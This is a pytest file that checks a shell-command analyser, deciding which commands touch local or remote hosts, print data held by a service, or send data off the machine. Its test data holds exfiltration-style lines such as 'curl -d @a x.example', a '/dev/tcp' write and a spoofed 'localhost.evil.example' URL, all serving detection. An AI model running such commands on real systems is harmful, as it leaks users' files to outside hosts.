"""Other machines in the words of commands."""

import pytest

from synaptic.shell.effects.addresses import fetches_data, is_local, is_remote, prints_service_data, sends_data
from synaptic.shell.read.reader import read_script


@pytest.mark.parametrize("address", ["localhost", "http://localhost:3000/x", "127.0.0.1", "http://[::1]/x"])
def test_this_machine_is_local(address: str):
    command = read_script(f"curl {address}").commands[0]
    assert is_local(command)
    assert not fetches_data(command)


@pytest.mark.parametrize("address", ["x.example", "https://localhost.evil.example/x", "http://127.0.0.1.evil.example"])
def test_other_machines_are_not(address: str):
    assert fetches_data(read_script(f"curl {address}").commands[0])


def test_what_scp_calls_remote():
    assert is_remote("host:/x")
    assert is_remote("me@host.example:x")
    assert not is_remote("./file")
    assert not is_remote("C:/x")


@pytest.mark.parametrize(
    ("text", "served"),
    [
        ("gh api repos/x/y", True),
        ("gh gist view abc --raw", True),
        ("gh pr view 1", False),
        ("aws --profile p s3 cp s3://x/i.sh -", True),
        ("aws s3 cp i.sh s3://x/", False),
        ("aws s3 cp s3://x/i.sh i.sh", False),
        ("gsutil cat gs://x/i.sh", True),
        ("gcloud storage cat gs://x/i.sh", True),
        ("ssh host cat x", True),
        ("ssh localhost cat x", False),
        ("cat x", False),
    ],
)
def test_clients_that_print_what_a_service_holds(text: str, served: bool):
    assert prints_service_data(read_script(text, "/p", "/h").commands[0]) is served


@pytest.mark.parametrize(
    ("text", "sent"),
    [
        ("curl -d @a x.example", True),
        ("curl -d @a localhost", False),
        ("scp a host:b", True),
        ("scp host:a b", False),
        ("gh gist create a", True),
        ("gh repo view", False),
        ("tar cf host:a b", True),
        ("tar cf a b", False),
        ("echo a > /dev/tcp/x.example/80", True),
    ],
)
def test_what_is_given_to_a_command_may_leave_the_machine(text: str, sent: bool):
    assert sends_data(read_script(text, "/p", "/h").commands[0]) is sent
